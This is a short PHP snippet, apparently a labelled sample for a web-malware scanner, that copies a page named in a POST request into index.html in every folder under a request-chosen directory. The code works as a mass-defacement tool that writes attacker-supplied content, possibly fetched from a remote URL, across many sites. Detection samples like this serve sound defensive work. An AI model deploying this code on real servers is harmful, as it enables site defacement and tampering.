<?php
// Copies a page the request names into every folder found.
// want: php_mass_file_write php_request_file_write
$dir = $_POST['dir'];
$dh = opendir($dir);
while (($f = readdir($dh)) !== false) {
    copy($_POST['page'], $dir . $f . '/index.html');
}
